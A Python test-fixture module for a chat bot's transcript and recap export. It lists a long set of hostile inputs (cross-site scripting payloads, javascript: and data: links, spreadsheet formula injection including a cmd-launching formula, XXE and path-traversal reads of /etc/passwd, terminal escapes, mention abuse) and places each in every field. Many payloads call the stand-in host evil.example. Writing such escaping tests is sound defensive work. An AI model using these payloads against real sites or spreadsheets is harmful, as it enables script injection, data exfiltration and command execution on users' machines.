"""Two hundred texts that would like to do something, and records with one of them in every place that takes a text.

`hit()` and `alert()` are what a script of theirs would call; `https://evil.example` is where they would like to go.
"""

from dataclasses import replace

from bot.core.base.contribution import Attachment, KeptFile, Missing, MissingFile, Person
from bot.core.record.filing import How
from bot.core.record.recap import Recap, recap_of
from bot.core.record.transcript import AskedQuestion, Event, ReadingLine, ReplyTo
from bot.core.script.pack import Host
from bot.core.session.recap_state import RecapState
from tests.adapters.export.transcripts import OPENED, MemoryTranscript, entry, head, message
from tests.core.record.recaps import entry as answer
from tests.core.record.recaps import question, quoted, rich, section, summary, with_talk

SCRIPTS = (
    "<script>hit()</script>",
    "</script><script>hit()</script>",
    "<ScRiPt>hit()</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\x00>hit()</script>",
    "<script\n>hit()</script\n>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<img src=x onerror=hit()>",
    '<img src="x" onerror="hit()">',
    "<img src=x onerror=hit()//",
    "<img/src=x/onerror=hit()>",
    "<img src=https://evil.example/p.png>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:hit()"><text y=20>x</text></a></svg>',
    "<svg><use href=https://evil.example/x.svg#a></svg>",
    "</title><script>hit()</script>",
    "</desc><script>hit()</script>",
    "</text></svg><img src=x onerror=hit()>",
    "</style><script>hit()</script>",
    "</article></main></body></html><script>hit()</script>",
    "</bdi></h3></header><script>hit()</script>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>x</details>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<input autofocus onfocus=hit()>",
    "<select autofocus onfocus=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>x</button></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/b)}</style>",
    "<p style='background:url(https://evil.example/c)'>x</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<template><script>hit()</script></template>",
    "<a href=javascript:hit()>x</a>",
    "<a href=' javascript:hit()'>x</a>",
    "<a href=data:text/html,<script>hit()</script>>x</a>",
    "<!--><script>hit()</script>-->",
    "<!-- ",
    "--><script>hit()</script>",
    "<![CDATA[<script>hit()</script>]]>",
    "<?xml-stylesheet href='https://evil.example/x.css'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "&#x3c;img src=x onerror=hit()&#x3e;",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "\u202e<script>hit()</script>\u202c",
    "\ufeff<script>hit()</script>",
)
ATTRIBUTES = (
    '" onmouseover="hit()',
    "' onmouseover='hit()",
    '"><script>hit()</script>',
    "'><script>hit()</script>",
    '" autofocus onfocus="hit()" x="',
    '" style="background:url(https://evil.example)',
    "` onmouseover=hit() `",
    "x onerror=hit()",
    '"/><img src=x onerror=hit()>',
    '" lang="en" dir="rtl" onclick="hit()',
)
LINKS = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    "java\nscript:hit()",
    "\x01javascript:hit()",
    "vbscript:hit()",
    "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=hit()>",
    "file:///etc/passwd",
    "//evil.example",
    "https:javascript:hit()",
    "[x](javascript:hit())",
    "[x](<javascript:hit()>)",
    "[x]( javascript:hit())",
    "<javascript:hit()>",
    "[x](data:text/html,<script>hit()</script>)",
    '[x](https://a.b/" onmouseover="hit())',
    "[x](https://a.b/'onclick='hit())",
    "https://a.b/'onclick='hit()",
    'https://a.b/"><script>hit()</script>',
    "https://a.b/<script>hit()</script>",
    "https://a.b/`onmouseover=hit()`",
    "[https://good.example](https://evil.example)",
    "[x](https://evil.example 'title' onmouseover=hit())",
    "![i](https://evil.example/x.png)",
    "![i](https://evil.example/x.png 'x')",
    "[![i](https://evil.example/x.png)](https://evil.example)",
    "[note]: https://evil.example 'x'",
    "[note]: <javascript:hit()>",
    "[^1]: https://evil.example",
    "<https://evil.example/><script>hit()</script>",
    "https://evil.example@good.example",
    "transcript.html#m1",
    'transcript.html#m1" onclick="hit()',
    "files/../../etc/passwd",
)
MARKDOWN = (
    "# heading",
    "\n# heading\n",
    "setext\n======",
    "setext\n------",
    "---",
    "***",
    "___",
    "```\n<script>hit()</script>\n```",
    "```html\n</code></pre><script>hit()</script>",
    "~~~\ncode",
    "    indented code",
    "\tcode",
    "> quote",
    ">>> all of it\n# heading",
    "- a\n  - b\n    - c",
    "1. one\n1000000000. two",
    "+ plus",
    "|a|b|\n|-|-|\n|<script>hit()</script>|x|",
    "a | b\n--|--",
    "**<script>hit()</script>**",
    "||<script>hit()</script>||",
    "||[x](javascript:hit())",
    "__*~~||`**_",
    "`<script>hit()</script>",
    "``` ``` ```",
    "\\<script\\>hit()\\</script\\>",
    "\\",
    "\\\\\\",
    "<details><summary>x</summary>",
    "- [ ] <img src=x onerror=hit()>",
    "$$\\href{javascript:hit()}{x}$$",
    "[[wiki]] {{template}} {% raw %} <% x %> ${hit()} #{hit()}",
    "{author} {excerpt} {0} {} {{",
    "{name.__class__.__mro__}",
    "%s %d %(x)s %n",
)
MENTIONS = (
    "@everyone",
    "@here",
    "<@1>",
    "<@!1>",
    "<@&1>",
    "<#1>",
    "<@99999999999999999999>",
    "</close:1>",
    "<t:1:R>",
    "<t:99999999999999:F>",
    "<t:-99999999999999:F>",
    "<:x:1>",
    "<a:x:1><script>hit()</script>",
    "<id:customize>",
    "@everyone\u200b",
    "@\u200beveryone",
    "<@\u202e1>",
)
FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")',
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    '";=1+1;"',
    '"\r\n=1+1,',
    "sep=;",
    "_x003D_1+1",
)
CHARACTERS = (
    "\x00",
    "\x1b[2J\x1b[31mred",
    "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x07\x08\x7f\x9b",
    "\u202eevil",
    "\u2066\u2067\u2068x\u2069",
    "\u200b\u200c\u200d\u2060",
    "\u2028\u2029",
    "\u0085\x0b\x0c",
    "\ud83d",
    "\udc00\ud800",
    "\ufffe\uffff\ufdd0",
    "\U0001f468\u200d" * 40,
    "Z\u0351\u036b\u0343" * 40,
    "\u05e9\u05dc\u05d5\u05dd <b>x</b>",
    "\r\n\r\n",
    "\n" * 60,
    " " * 500,
    "x" * 2000,
    "<" * 2000,
    "&" * 2000,
    "\"'" * 1000,
)
HOSTILE = (*SCRIPTS, *ATTRIBUTES, *LINKS, *MARKDOWN, *MENTIONS, *FORMULAS, *CHARACTERS)

DIGEST = "d" * 64


def everywhere(text: str) -> MemoryTranscript:
    """Return a transcript with this text in every place that takes one, the pictures included."""
    said = message(
        1,
        text,
        Person(1001, text),
        edited_at=OPENED,
        forwarded=text,
        reactions={text: 1},
        attachments=(
            Attachment(text, text, 1, text, text, MissingFile(Missing.FAILED, OPENED)),
            Attachment(text, text, 1, text, text, KeptFile(DIGEST, "image/png", 1)),
        ),
    )
    first = replace(entry(said, 1, How.THREAD, reply=ReplyTo(5, text, text)), pictures={DIGEST: b"picture"})
    replies = (message(minute, text, Person(1000 + minute, text), reply_to=said.id) for minute in (3, 4))
    return MemoryTranscript(
        head(title=text, hashtag=text, language=text, hosts=(Host(text, handle=text, organisation=text),), by=text)
        if text
        else head(),
        (
            AskedQuestion(1, text, OPENED, (ReadingLine(text, text, text, text),), text),
            AskedQuestion(2, text, OPENED, (), None, text),
        ),
        (Event(OPENED, text, 1, text),),
        {1: [replace(first, link=text), *(entry(reply, 1, How.THREAD) for reply in replies)]},
        [entry(message(5, text))],
    )


def recap_of_hostile(text: str) -> Recap:
    """Return a recap with this text in every place that takes one, the pictures included.

    Names, titles and lines are as long as Discord, packs and hosts can have them.
    """
    said = f"{text} and the sky {text}"
    name, line = text[:32], text[:200]
    first = quoted(1, said)
    asked = question(1, line, short=name, readings=(ReadingLine(text, text, text, text),))
    made = replace(rich().head, title=line, intro=text, by=name, hashtag=name, hosts=(Host(name, handle=name),))
    people = [answer(number, said, by=number) for number in (2, 3, 4)]
    named = [replace(each, contribution=replace(each.contribution, author=Person(7, name))) for each in people]
    shown = section(first, quoted(2, f"I disagree: {said}", by=2, after=first), of=asked)
    drawn = with_talk(shown, made, (named[0], None), (people[1], named[0]), (people[2], named[0]))
    return recap_of(
        replace(summary(drawn, head=made), people=(name, "Ada"), liked=quoted(3, said, by=3)),
        RecapState(lead=line, headlines={1: line}),
    )
